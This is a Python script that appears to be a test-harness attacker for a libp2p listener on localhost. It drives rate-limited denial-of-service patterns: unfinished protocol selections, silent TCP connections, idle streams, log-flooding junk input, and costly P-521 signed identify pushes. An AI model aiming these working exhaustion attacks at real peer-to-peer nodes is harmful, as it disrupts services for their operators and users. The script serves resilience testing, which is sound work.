#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""An attacker with a fixed rate: attack.py KIND PORT.  "on" and "off" on stdin start and stop the attack."""
import os, socket, sys, threading, time
from cryptography.hazmat.primitives import hashes, serialization as ser
from cryptography.hazmat.primitives.asymmetric import ec
from kit import ATTACKER
from wire import DATA, FIN, PUSH_ID, SYN, WINDOW, Peer, field, frame, opening, uvarint

PORT = int(sys.argv[2])


class Peers:
    """Connections that are replaced when they are closed."""

    def __init__(self, n):
        self.all = [None] * n
        self.stream = [1] * n

    def get(self, i):
        p = self.all[i]
        if p is None or p.is_gone():
            self.all[i], self.stream[i] = None, 1
            try:
                self.all[i] = Peer(PORT, ATTACKER, timeout=2)
            except (OSError, EOFError):
                return None
        return self.all[i]

    def next_stream(self, i):
        self.stream[i] += 2
        return self.stream[i] - 2

    def close(self):
        for p in self.all:
            if p:
                p.close()
        n = len(self.all)
        self.all, self.stream = [None] * n, [1] * n


class Selections(Peers):
    """Streams that never finish protocol selection: 5 connections with 250 streams each, opened four at a time."""

    rate = 400

    def __init__(self, n=5):
        super().__init__(n)
        self.turn = 0

    def step(self):
        self.turn += 1
        i = self.turn % len(self.all)
        p = self.get(i)
        if p and self.stream[i] < 500:
            ids = [self.next_stream(i) for _ in range(4)]
            p.send(b"".join(frame(DATA, SYN, n, 6, b"\x13/mult") for n in ids))


class Silence:
    """200 TCP connections from 4 addresses that never send a byte; those that are closed are replaced."""

    rate = 200

    def __init__(self):
        self.all = []
        self.turn = 0

    def step(self):
        self.turn += 1
        if len(self.all) >= 200:
            k = self.all.pop(0)
            try:
                if k.recv(1) == b"":
                    k.close()
                    return
            except BlockingIOError:
                self.all.append(k)
                return
            except OSError:
                k.close()
                return
        k = socket.socket()
        k.bind(("127.0.0.%d" % (10 + self.turn % 4), 0))
        k.setblocking(False)
        try:
            k.connect(("127.0.0.1", PORT))
        except BlockingIOError:
            pass
        self.all.append(k)

    def close(self):
        for k in self.all:
            k.close()
        self.all = []


class Idlers(Peers):
    """One peer that holds 40 idle streams of /echo open."""

    rate = 40

    def __init__(self):
        super().__init__(1)

    def step(self):
        p = self.get(0)
        if p and self.stream[0] < 81:
            p.send(opening(self.next_stream(0), "/echo", b"x"))


class Lines(Peers):
    """Everything that makes a listener print a line: bytes that are not libp2p, unknown protocols, protocol violations."""

    rate = 60

    def __init__(self):
        super().__init__(1)
        self.turn = 0

    def step(self):
        self.turn += 1
        try:
            if self.turn % 3 == 0:
                k = socket.create_connection(("127.0.0.1", PORT), 2, (ATTACKER, 0))
                k.sendall(b"GET / HTTP/1.0\r\n\r\n")
                k.close()
                return
        except OSError:
            return
        p = self.get(0)
        if p and self.turn % 3 == 1:
            p.send(opening(self.next_stream(0), "/no/such/%d" % self.turn))
        elif p:
            n = self.next_stream(0)
            p.send(opening(n, "/echo", b"x") + frame(WINDOW, 8, n, 0))


class Pushes(Peers):
    """Identify pushes with a record that is signed by a P-521 key, four at a time on one connection."""

    rate = 300

    def __init__(self):
        super().__init__(1)
        key = ec.generate_private_key(ec.SECP521R1())
        public = key.public_key().public_bytes(ser.Encoding.DER, ser.PublicFormat.SubjectPublicKeyInfo)
        envelope = field(1, b"\x08\x03" + field(2, public)) + field(2, b"\x03\x01") + field(3, b"x")
        self.record = field(8, envelope + field(5, key.sign(b"anything", ec.ECDSA(hashes.SHA256()))))
        self.turn = 0

    def step(self):
        self.turn += 1
        p = self.get(0)
        pushes = b""
        for i in range(4 if p else 0):
            message = field(6, b"agent %d.%d" % (self.turn, i)) + self.record
            n = self.next_stream(0)
            pushes += opening(n, PUSH_ID, uvarint(len(message)) + message) + frame(WINDOW, FIN, n, 0)
        if p:
            p.send(pushes)


KINDS = {"selections": Selections, "silence": Silence, "idlers": Idlers, "lines": Lines, "pushes": Pushes}


def main():
    attack, running = KINDS[sys.argv[1]](), threading.Event()

    def go():
        due = time.monotonic()
        while True:
            running.wait()
            due = max(due + 1 / attack.rate, time.monotonic() - 0.1)
            time.sleep(max(0, due - time.monotonic()))
            if running.is_set():
                attack.step()

    threading.Thread(target=go, daemon=True).start()
    for word in sys.stdin:
        if word.strip() == "on":
            running.set()
        else:
            running.clear()
            time.sleep(0.1)
            attack.close()
        print("done", flush=True)
    os._exit(0)


main()
